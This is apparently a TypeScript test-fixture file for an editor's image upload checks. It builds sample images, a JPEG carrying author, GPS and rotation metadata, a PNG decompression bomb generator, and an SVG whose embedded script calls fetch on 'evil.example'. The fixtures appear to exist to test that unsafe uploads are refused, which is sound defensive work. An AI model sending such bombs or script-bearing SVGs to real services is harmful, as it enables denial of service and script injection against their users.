import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { BodyNode } from '@/lib/editor/content'
import { type MadePicture, makePicture } from '@/server/files/formats/picture'

/** Pictures of a text and such as somebody might try to bring in instead of one. */

const plain = (width: number, height: number, background: string) =>
  sharp({ create: { width, height, channels: 3, background } })

async function made(bytes: Uint8Array): Promise<MadePicture> {
  const picture = await makePicture(bytes)
  if ('refusal' in picture) throw new Error(picture.refusal)
  return picture
}

/** A drawing twice as wide as tall, and a photograph three times as tall as wide. */
export const PLAN = await made(await plain(600, 300, '#7090b0').png().toBuffer())
export const PHOTO = await made(await plain(200, 600, '#b09070').jpeg().toBuffer())
export const PICTURES = new Map([PLAN, PHOTO].map((picture) => [picture.sha256, picture]))

export const image = (attrs: Record<string, unknown> = {}, { sha256 }: { sha256: string } = PLAN): BodyNode => ({
  type: 'image',
  attrs: { sha256, width: 80, alt: '', align: null, ...attrs },
})

/** A picture that says where and by whom it was made, and shows itself only when turned. */
export const talkativePhoto = async (): Promise<Uint8Array> =>
  new Uint8Array(
    await plain(300, 100, '#406080')
      .withExif({ IFD0: { Artist: 'Ветров И.П.', Copyright: 'секретно' }, IFD3: { GPSLatitudeRef: 'N' } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer(),
  )

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A few kilobytes that say they are as many pixels. */
export function pictureBomb(width = 100_000, height = 100_000): Uint8Array {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 2], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const rows = deflateSync(Buffer.alloc(2_000_000))
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

export const SVG_WITH_SCRIPT = new TextEncoder().encode(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//evil.example")</script></svg>',
)
